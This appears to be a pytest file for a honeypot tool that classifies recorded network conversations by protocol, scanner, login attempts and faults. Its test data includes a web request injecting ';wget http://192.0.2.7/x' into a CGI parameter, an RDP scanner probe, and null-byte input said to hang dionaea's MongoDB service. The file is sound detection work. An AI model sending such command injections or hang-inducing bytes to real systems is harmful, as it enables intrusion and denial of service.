"""What a conversation's row says: protocol by content, tool and step, logins side by side, the fault that its bytes would trigger."""

import pytest

from honeyguide.schema.fields import fields
from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.protocols import protocols
from honeyguide.streams.telling import tell

COOKIE = b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=beio\r\n\x01\x00\x08\x00\x03\x00\x00\x00"


def said(data: bytes, port: int = 0, answer: bytes = b"") -> Conversation:
    turns = [Turn("in", data)] if data else []
    return Conversation((*turns, *([Turn("out", answer)] if answer else [])), local_port=port)


def test_the_protocol_is_what_was_spoken_wherever_it_was() -> None:
    row = tell(said(b"GET /a HTTP/1.1\r\nHost: x\r\nUser-Agent: probe/1\r\n\r\n", 27017), "mongod")
    assert row["network.protocol"] == "http"
    assert (row["url.original"], row["user_agent.original"]) == ("/a", "probe/1")
    assert "GET /a" in row["honeypot.stream.summary"]


def test_a_disguised_scanner_is_named_and_its_word_quoted() -> None:
    row = tell(said(COOKIE, 445))
    assert row["honeypot.tool.name"] == "service scanner"
    assert row["honeypot.tool.disguise"] == "beio"
    assert 0.5 <= row["honeypot.tool.certainty"] <= 1.0
    assert "beio" in row["honeypot.stream.summary"]


def test_a_word_known_from_the_peers_other_conversations_is_found_again() -> None:
    data = b"\x8f\x13nonebeio\xfe"
    assert tell(said(data)).get("honeypot.tool.name") is None
    row = tell(said(data), tokens=["beio"])
    assert row["honeypot.tool.name"] == "service scanner"
    assert row["honeypot.tool.step"] == "unidentified, carries the token beio"
    assert row["honeypot.tool.certainty"] <= 0.5


def test_a_known_message_that_carries_the_word_is_not_called_unidentified() -> None:
    row = tell(said(b"GET /beio HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"), tokens=["beio"])
    assert row["honeypot.tool.step"] == "http, carries the token beio"


@pytest.mark.parametrize(
    ("conversation", "summary", "step"),
    [
        (Conversation(()), "no bytes are in the recording", "sends nothing"),
        (Conversation((), complete=False), "no bytes are in the recording", None),
        (said(b"", answer=b"220 ready\r\n"), "ready", "sends nothing"),
        (said(b"\x91\x82\xfe\xef\x00\x17"), "unidentified: \\x91", None),
    ],
)
def test_what_nobody_understands_is_a_row_too(conversation: Conversation, summary: str, step: str | None) -> None:
    row = tell(conversation)
    assert summary in row["honeypot.stream.summary"]
    assert row.get("honeypot.tool.step") == step


def test_logins_stand_side_by_side() -> None:
    row = tell(said(b"USER anonymous\r\nPASS guest@x\r\nQUIT\r\n", 21), "ftpd")
    assert row["honeypot.credential.username"] == ["anonymous"]
    assert row["honeypot.credential.password"] == ["guest@x"]
    assert row["user.name"] == ["anonymous"]


@pytest.mark.parametrize(
    ("data", "service", "fault"),
    [
        (b"\0" * 16, "mongod", "DIO-MONGO-LENGTH"),
        (b"\0" * 15, "mongod", None),
        (b"\0" * 16, "httpd", None),
        (b"\x10\0\0\0" + b"\1" * 12, "mongod", None),
    ],
)
def test_bytes_that_would_hang_dionaea_are_marked_where_they_were_sent(data: bytes, service: str, fault: str | None) -> None:
    assert tell(said(data), service).get("honeypot.fault") == fault


def test_of_a_beginning_nothing_is_said_about_the_whole() -> None:
    row = tell(said(b"x" * 100), whole=False)
    assert row["honeypot.payload.sha256"] is None
    assert row["honeypot.payload.hex"] == "78" * 100


@pytest.mark.parametrize("name", sorted(protocols()))
def test_every_field_of_a_row_is_in_the_vocabulary(name: str) -> None:
    for sample in protocols()[name].samples:
        row = tell(sample.conversation)
        assert set(row) <= set(fields())
        assert row["honeypot.stream.summary"]


def test_a_command_sent_to_a_web_server_is_an_attack_even_if_nobody_knows_its_target() -> None:
    row = tell(said(b"GET /new.cgi?name=;wget%20http://192.0.2.7/x HTTP/1.1\r\n\r\n"))
    assert (row.get("honeypot.tool.name"), row["honeypot.tool.step"]) == (None, "exploit: command in a request")
    assert row["honeypot.command"] == [";wget http://192.0.2.7/x"]


def test_a_broken_request_in_small_letters_is_no_question_to_memcached() -> None:
    assert tell(said(b"get / http/1.1\r\n\r\n"))["network.protocol"] == "text"
    assert tell(said(b"get key\r\n"))["network.protocol"] == "memcache"
